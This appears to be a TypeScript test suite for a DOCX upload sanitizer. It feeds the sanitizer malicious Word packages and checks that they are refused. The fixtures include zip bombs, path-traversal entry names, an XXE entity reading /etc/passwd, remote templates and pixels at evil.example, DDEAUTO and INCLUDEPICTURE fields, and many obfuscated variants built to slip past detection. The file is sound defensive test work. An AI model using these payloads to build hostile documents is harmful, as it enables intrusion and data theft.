import { readFileSync } from 'node:fs'
import { gzipSync } from 'node:zlib'
import PizZip from 'pizzip'
import { describe, expect, test } from 'vitest'
import { bodyOf, docx, relations } from '../../../testing/documents/docx.ts'
import { cleanDocx, docxParts } from './docx-parts.ts'
import { BadFile, unzip } from './unzip.ts'

const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const MEGABYTE = 1024 * 1024

function reasonOf(bytes: Buffer): string {
  try {
    docxParts(bytes)
    return 'kept'
  } catch (error) {
    if (!(error instanceof BadFile)) throw error
    return error.message
  }
}

const related = (type: string, target: string, mode = ' TargetMode="External"') =>
  docx(['x'], {
    'word/_rels/document.xml.rels': relations(`<Relationship Id="rId9" Type="${RELATION}/${type}" Target="${target}"${mode}/>`),
  })

const relation = (attributes: string) => docx(['x'], { 'word/_rels/document.xml.rels': relations(`<Relationship ${attributes}/>`) })
const field = (code: string) => `<fldSimple instr="${code}"/>`
const typesWith = (more = '') => unzip(docx()).get('[Content_Types].xml')?.toString().replace('</Types>', `${more}</Types>`) ?? ''

/** Overwrites a number in the first header of the central directory. */
function lie(bytes: Buffer, at: number, value: number): Buffer {
  const copy = Buffer.from(bytes)
  copy.writeUInt32LE(value, copy.readUInt32LE(copy.length - 6) + at)
  return copy
}

/** An archive of many names whose entries share the same bytes. */
function overlapping(): Buffer {
  const copy = Buffer.from(docx())
  const directory = copy.readUInt32LE(copy.length - 6)
  const second = directory + 46 + copy.readUInt16LE(directory + 28) + copy.readUInt16LE(directory + 30) + copy.readUInt16LE(directory + 32)
  copy.writeUInt32LE(copy.readUInt32LE(directory + 42), second + 42)
  return copy
}

function named(name: string): Buffer {
  const zip = new PizZip(docx())
  zip.file('word/aaaaaaaa.xml', '<x/>')
  const bytes = Buffer.from(zip.generate({ type: 'uint8array' }))
  return Buffer.from(bytes.toString('latin1').replaceAll('word/aaaaaaaa.xml', name.padEnd(17, 'x').slice(0, 17)), 'latin1')
}

const stored = () => Buffer.from(new PizZip(docx()).file('word/media/a.bmp', Buffer.alloc(51 * MEGABYTE)).generate({ type: 'uint8array' }))
const many = () => docx(['x'], Object.fromEntries(Array.from({ length: 600 }, (_, at) => [`word/media/${at}.png`, 'x'])))
const stream = Buffer.from(new PizZip().file('a', 'b').generate({ type: 'uint8array' }))

describe('is refused', () => {
  test.each<[string, () => Buffer, RegExp]>([
    ['a bomb', () => docx(['x'], { 'word/styles.xml': Buffer.alloc(6 * MEGABYTE) }), /unpacks to far more/],
    ['more content than any letter has, in any packing', stored, /unpacks to far more/],
    ['a bomb that declares a small size', () => lie(docx(['x'], { 'a.xml': Buffer.alloc(6 * MEGABYTE) }), 24, 10), /damaged|far more/],
    ['a wrong size', () => lie(docx(), 24, 12), /damaged/],
    ['manipulated content', () => lie(docx(), 16, 12), /damaged/],
    ['an archive in an archive', () => docx(['x'], { 'word/media/a.png': stream }), /another packed file/],
    ['a packed picture', () => docx(['x'], { 'word/media/a.emz': gzipSync('x') }), /macros or embedded/],
    ['a packed picture under another name', () => docx(['x'], { 'word/media/a.emf': gzipSync('x') }), /another packed file/],
    ['hundreds of parts', many, /more than 500 parts/],
    ['overlapping parts', overlapping, /damaged/],
    ['a name with parent folders', () => named('../../../etc/xxxx'), /leads out of it/],
    ['an absolute name', () => named('/etc/xxxxxxxxxxxx'), /leads out of it/],
    ['a name with a drive', () => named('C:\\windows\\xxxxxx'), /leads out of it/],
    ['one name twice', () => named('word/document.xml'), /two parts of one name/],
    [
      'an entity that reads a file',
      () => docx(['x'], { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' }),
      /document type/,
    ],
    ['entities that multiply', () => docx(['x'], { 'docProps/core.xml': '<!DOCTYPE lolz [<!ENTITY a "lol">]><x/>' }), /document type/],
    ['another encoding, which hides things', () => docx(['x'], { 'word/styles.xml': Buffer.from('<!DOCTYPE x><x/>', 'utf16le') }), /UTF-8/],
    ['another declared encoding', () => docx(['x'], { 'word/styles.xml': '<?xml version="1.0" encoding="UTF-7"?><x/>' }), /UTF-8/],
    ['an external template', () => related('attachedTemplate', 'https://evil.example/t.dotm'), /outside itself \(attachedTemplate\)/],
    ['an external picture', () => related('image', 'https://evil.example/pixel.png'), /outside itself \(image\)/],
    ['a disguised external picture', () => related('image', '//evil.example/x', " TargetMode='&#69;xternal'"), /outside itself/],
    ['a link to a file', () => related('hyperlink', 'file:///c:/windows/x.exe'), /outside itself/],
    ['a part outside of the archive', () => related('image', '../../x.png', ''), /outside itself/],
    ['a part at an address', () => related('image', 'file:///etc/passwd', ''), /outside itself/],
    ['macros', () => docx(['x'], { 'word/vbaProject.bin': 'x' }), /macros/],
    ['controls', () => docx(['x'], { 'word/activeX/activeX1.xml': '<x/>' }), /macros/],
    ['an embedded sheet', () => docx(['x'], { 'word/embeddings/sheet.xlsx': 'x' }), /macros or embedded/],
    [
      'a document whose content types declare macros',
      () =>
        docx(['x'], { '[Content_Types].xml': typesWith('<Default Extension="bin" ContentType="application/vnd.ms-word.macroEnabled"/>') }),
      /macros/,
    ],
    [
      'a field that runs a program',
      () =>
        docx(['x'], { 'word/header1.xml': '<w:p xmlns:w="w"><w:instrText> DD</w:instrText><w:instrText>EAUTO c:\\x </w:instrText></w:p>' }),
      /pulls in other files/,
    ],
    [
      'a field that pulls in a picture',
      () => docx(['x'], { 'word/header1.xml': '<w:fldSimple xmlns:w="w" w:instr=" INCLUDEPICTURE x "/>' }),
      /pulls in other files/,
    ],
    [
      'a relation with a character before its type',
      () => relation(`Id="a>b" Type="${RELATION}/image" Target="http://x/" TargetMode="External"`),
      /image/,
    ],
    [
      'a relation whose id looks like its type',
      () => relation(`Id=' Type="/hyperlink"' Type="${RELATION}/image" Target="http://x/" TargetMode="External"`),
      /image/,
    ],
    [
      'a relation with a namespace prefix',
      () => relation(`x:Target="http://x/" xmlns:x="x" Type="${RELATION}/image" TargetMode="External"`),
      /image/,
    ],
    [
      'a part of HTML',
      () => docx(['x'], { '[Content_Types].xml': typesWith('<Default Extension="htm" ContentType="text/html"/>'), 'word/a.htm': '<p>' }),
      /outside/,
    ],
    [
      'a document without the XML namespace',
      () =>
        docx(['x'], {
          '[Content_Types].xml': typesWith('<Override PartName="/word/d.bin" ContentType="application/x+xml"/>'),
          'word/d.bin': field('INCLUDETEXT x'),
        }),
      /pulls in/,
    ],
    ['XML that is not well-formed', () => docx(['x'], { 'word/styles.xml': '<x><y></x>' }), /damaged/],
    ['an undeclared entity', () => docx(['x'], { 'word/styles.xml': '<x>&e;</x>' }), /damaged/],
    ['a style sheet', () => docx(['x'], { 'customXml/item1.xml': '<?xml-stylesheet href="http://x/"?><x/>' }), /style sheet/],
    ['a picture by its address', () => docx(['x'], { 'word/header1.xml': '<v:imagedata xmlns:v="v" src="http://x/"/>' }), /imagedata/],
    ['half a file', () => docx().subarray(0, 900), /damaged/],
    ['two things at once', () => Buffer.concat([docx(), Buffer.from('%PDF-1.4')]), /damaged/],
    ['something before it', () => Buffer.concat([Buffer.from('%PDF-1.4'), docx()]), /damaged/],
    ['nothing', () => Buffer.alloc(0), /damaged/],
    [
      'a sheet',
      () => docx(['x'], { '[Content_Types].xml': typesWith().replace('wordprocessingml.document', 'spreadsheetml.sheet') }),
      /no Word document/,
    ],
  ])('%s', (_what, make, reason) => {
    expect(reasonOf(make())).toMatch(reason)
  })

  test('a password, by the flag of the entries', () => {
    const copy = Buffer.from(docx())
    const directory = copy.readUInt32LE(copy.length - 6)
    copy.writeUInt16LE(1, directory + 8)
    expect(reasonOf(copy)).toMatch(/password/)
  })
})

test.each([
  { where: 'on a share', target: '\\\\evil.example\\x.png' },
  { where: 'on a share with slashes', target: '//evil.example/x.png' },
  { where: 'on a share in escapes', target: '%5C%5Cevil.example%5Cx.png' },
  { where: 'at an address after a blank', target: ' https://evil.example/x.png' },
])('a picture $where is refused as part of the document', ({ target }) => {
  expect(reasonOf(related('image', target, ''))).toMatch(/outside itself \(image\)/)
})

describe('a field that includes other files is detected', () => {
  const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
  const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
  const run = (code: string) => `<w:r><w:instrText>${code}</w:instrText></w:r>`
  const complex = (...pieces: string[]) => `${char('begin')}${pieces.join('')}${char('separate')}<w:r><w:t>x</w:t></w:r>${char('end')}`
  const Q = 'xmlns:q="urn:unknown"'
  const deleted = (runs: string) => `<w:del w:id="1">${runs.replaceAll('instrText', 'delInstrText')}</w:del>`
  const branches = (choice: string, fallback: string) =>
    `<mc:AlternateContent><mc:Choice Requires="wps">${choice}</mc:Choice><mc:Fallback>${fallback}</mc:Fallback></mc:AlternateContent>`
  const reasonOfHeader = (body: string) => reasonOf(docx(['x'], { 'word/header1.xml': `<w:hdr ${W} xmlns:mc="mc">${body}</w:hdr>` }))

  test.each([
    ['in single quotes', `<w:fldSimple w:instr='INCLUDEPICTURE "http://x/"'/>`],
    ['under another prefix', `<q:fldSimple xmlns:q="q" q:instr="INCLUDEPICTURE http://x/"/>`],
    ['behind a character that ends a tag', `<w:fldSimple w:dirty=">" w:instr="INCLUDEPICTURE http://x/"/>`],
    ['in a CDATA section', complex(run('<![CDATA[INCLUDEPICTURE http://x/]]>'))],
    ['cut by a CDATA section', complex(run('INC<![CDATA[LUDE]]>PICTURE http://x/'))],
    ['split by a comment', complex(run('INC<!-- -->LUDEPICTURE http://x/'))],
    ['written in entities', complex(run('&#73;NCLUDEPICTURE http://x/'))],
    ['split over runs', complex(run('INCLUDE'), '<w:proofErr/>', run('PICTURE http://x/'))],
    ['as plain text of the code', complex('<w:r><w:t>INCLUDEPICTURE http://x/</w:t></w:r>')],
    ['within another', complex(run('IF 1 = 1 '), complex(run('INCLUDETEXT "http://x/"')))],
    ['within the result of another field', `${char('begin')}${run('DATE')}${char('separate')}${complex(run('DDEAUTO c'))}${char('end')}`],
    ['whose kind is the result of another field', complex(complex(run('QUOTE INCLUDEPICTURE')), run(' DATE'))],
    ['whose kind begins with another field', complex(complex(run('QUOTE "INCLUDEPICTURE x "')), run('DATE'))],
    ['in quotes', complex(run('"INCLUDEPICTURE" http://x/'))],
    ['that is never closed', `${char('begin')}${run('INCLUDEPICTURE http://x/')}`],
    ['in deleted text', complex('<w:r><w:delInstrText>INCLUDEPICTURE x</w:delInstrText></w:r>')],
    [
      'in alternate content',
      `<mc:AlternateContent><mc:Choice/><mc:Fallback>${complex(run('INCLUDEPICTURE x'))}</mc:Fallback></mc:AlternateContent>`,
    ],
    ['that reads a database', complex(run('DATABASE \\d x'))],
    ['that nobody knows', complex(run('SOMETHINGNEW http://x/'))],
    ['that links to a share', complex(run('HYPERLINK "\\\\server\\x"'))],
    ['behind an attribute of the same name', `<w:fldSimple ${Q} q:instr="DATE" w:instr="INCLUDEPICTURE http://x/"/>`],
    ['behind a foreign element', complex(run(`<q:x ${Q}/>INCLUDEPICTURE http://x/`))],
    ['within a foreign element', complex(run(`<q:x ${Q}>INCLUDEPICTURE http://x/</q:x>`))],
    ['behind foreign code', complex(`<q:instrText ${Q}>DATE </q:instrText>`, run('INCLUDEPICTURE http://x/'))],
    ['behind the code of another branch', complex(branches(run('DATE '), run('INCLUDEPICTURE http://x/')))],
    ['that begins in a branch', complex(run('IF '), branches(char('begin'), ''), run('INCLUDEPICTURE http://x/'), char('end'))],
    ['behind deleted code', complex(deleted(run('DATE ')), run('INCLUDEPICTURE http://x/'))],
    [
      'behind the deleted end of another',
      complex(run('IF '), char('begin'), deleted(`${run('DATE ')}${char('end')}`), run('INCLUDEPICTURE http://x/'), char('end')),
    ],
    [
      'that begins with two types',
      `${run('DATE ')}<w:r><w:fldChar ${Q} w:fldCharType="begin" q:fldCharType="x"/></w:r>${run('INCLUDEPICTURE http://x/')}`,
    ],
  ])('%s', (_what, body) => {
    expect(reasonOfHeader(body)).toMatch(/pulls in other files/)
  })

  test.each([
    ['a chunk of another format', '<w:altChunk w:id="rId9"/>'],
    ['a template', '<q:attachedTemplate xmlns:q="q"/>'],
    ['a part of a longer document', '<w:subDoc/>'],
  ])('%s is refused in a document', (_what, body) => {
    expect(reasonOfHeader(body)).toMatch(/outside itself/)
  })

  test.each([
    ['of date and page', `${complex(run(' DATE  \\@ "M/d/yyyy" '))}<w:fldSimple w:instr=" PAGE   \\* MERGEFORMAT "/>`],
    ['with a link', complex(run(' HYPERLINK "https://bims.example/" '))],
    ['with another in its code', complex(run('IF '), complex(run('MERGEFIELD a')), run(' = "" "" "x"'))],
    ['whose code is empty', complex(run(' '))],
    ['that is deleted', deleted(complex(run(' DA'), run('TE ')))],
    ['whose code was changed', complex(run(' DATE \\@ '), deleted(run('"M"')), run('"d"'))],
    ['in a text box', `<w:r>${branches(`<q:box ${Q}>${complex(run(' PAGE '))}</q:box>`, complex(run(' PAGE ')))}</w:r>`],
    ['with text about fields', '<w:t>The field INCLUDEPICTURE pulls in a picture.</w:t>'],
  ])('but one %s is kept', (_what, body) => {
    expect(reasonOfHeader(body)).toBe('kept')
  })
})

test('a relation with two types is refused, of which one is that of a link', () => {
  const two = `Type="${RELATION}/image" x:Type="/hyperlink" xmlns:x="x" Target="http://x/" TargetMode="External"`
  expect(reasonOf(relation(two))).toMatch(/outside/)
})

test('any truncated or changed document is either refused or accepted, without other effects', () => {
  const whole = docx()
  let seed = 20_261_121
  const next = (below: number) => {
    seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff
    return seed % below
  }
  for (let round = 0; round < 500; round++) {
    const copy = Buffer.from(round % 2 === 0 ? whole : whole.subarray(0, next(whole.length)))
    for (let turn = 0; turn < 3 && copy.length > 0; turn++) copy[next(copy.length)] = next(256)
    expect(typeof reasonOf(copy)).toBe('string')
  }
})

test('files of word processors are accepted, with hyperlinks', () => {
  expect(reasonOf(docx())).toBe('kept')
  expect(reasonOf(docx(['Dear {first_name}'], { 'customXml/item1.xml': '<x/>', 'word/document.xml': bodyOf('x') }))).toBe('kept')
  const written = readFileSync(new URL('../../../letters/fixtures/libreoffice-letter.docx', import.meta.url))
  expect(reasonOf(written)).toBe('kept')
})

test('a document with thousands of nested elements is refused at once', () => {
  const deep = `<w:document xmlns:w="x">${'<w:p>'.repeat(20_000)}${'</w:p>'.repeat(20_000)}</w:document>`
  const began = performance.now()
  expect(reasonOf(docx(['x'], { 'word/document.xml': deep }))).toBe('The document is nested too deeply.')
  expect(performance.now() - began).toBeLessThan(1_000)
  const usual = `<w:document xmlns:w="x">${'<w:p>'.repeat(250)}${'</w:p>'.repeat(250)}</w:document>`
  expect(reasonOf(docx(['x'], { 'word/document.xml': usual }))).toBe('kept')
})

describe('a part with an unusual name or type', () => {
  const footer = '<w:ftr xmlns:w="x"><w:fldSimple w:instr="INCLUDETEXT https://evil.example/x"/></w:ftr>'
  const FOOTER = 'application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml'
  const declared = (...overrides: string[]) =>
    docx(['x'], {
      'word/footer1.bin': footer,
      '[Content_Types].xml': typesWith(overrides.map((each) => `<Override ${each}/>`).join('')),
      'word/_rels/document.xml.rels': relations(`<Relationship Id="rId9" Type="${RELATION}/footer" Target="footer1.bin"/>`),
    })

  test.each([
    ['a blank after its type', [`PartName="/word/footer1.bin" ContentType="${FOOTER} "`], 'no Word document'],
    ['a parameter of its type', [`PartName="/word/footer1.bin" ContentType="${FOOTER};charset=utf-8"`], 'no Word document'],
    [
      'two declarations',
      [`PartName="/word/footer1.bin" ContentType="image/png"`, `PartName="/word/Footer1.bin" ContentType="${FOOTER}"`],
      'no Word document',
    ],
    ['an escaped name', [`PartName="/word/foot%65r1.bin" ContentType="${FOOTER}"`], 'no Word document'],
    ['the type of a picture', [`PartName="/word/footer1.bin" ContentType="image/png"`], 'pulls in other files'],
    ['no declaration', [], 'pulls in other files'],
  ])('and %s is checked or refused', (_what, overrides, reason) => {
    expect(reasonOf(declared(...overrides))).toContain(reason)
  })

  test('and thousands of blanks before its first element is judged', () => {
    const hidden = docx(['x'], { 'word/h.bin': `${' '.repeat(5_000)}${footer}` })
    expect(reasonOf(hidden)).toContain('pulls in other files')
  })

  test.each([
    '<v:fill o:href="http://evil.example/x.png"/>',
    '<v:fill src="http://evil.example/x.png"/>',
    '<v:stroke o:althref="http://evil.example/x.png"/>',
    '<w:mailMerge><w:connectString w:val="Data Source=evil"/></w:mailMerge>',
    '<w:mailMerge w:connectString="Data Source=evil"/>',
    '<v:shape href="https://bims.example/" o:href="file:///c:/x"/>',
  ])('with %s is refused', (element) => {
    const document = `<w:document xmlns:w="w" xmlns:v="v" xmlns:o="o">${element}</w:document>`
    expect(reasonOf(docx(['x'], { 'word/document.xml': document }))).toContain('refers to something outside')
  })
})

test('a letterhead loses the name of the template of its author’s computer, and is kept', () => {
  const settings = '<w:settings xmlns:w="x" xmlns:r="y"><w:attachedTemplate r:id="rId1"/><w:zoom/></w:settings>'
  const relation = `<Relationship Id="rId1" Type="${RELATION}/attachedTemplate" Target="file:///C:/Letterhead.dotm" TargetMode="External"/>`
  const rels = `<Relationships xmlns="x">${relation}</Relationships>`
  const { parts, cleaned } = cleanDocx(docx(['x'], { 'word/settings.xml': settings, 'word/_rels/settings.xml.rels': rels }))
  expect(cleaned).toBe(true)
  expect([...parts.values()].some((content) => /attachedTemplate|Letterhead/.test(content.toString()))).toBe(false)
  expect(parts.get('word/settings.xml')?.toString()).toContain('<w:zoom/>')
  expect(cleanDocx(docx()).cleaned).toBe(false)
})
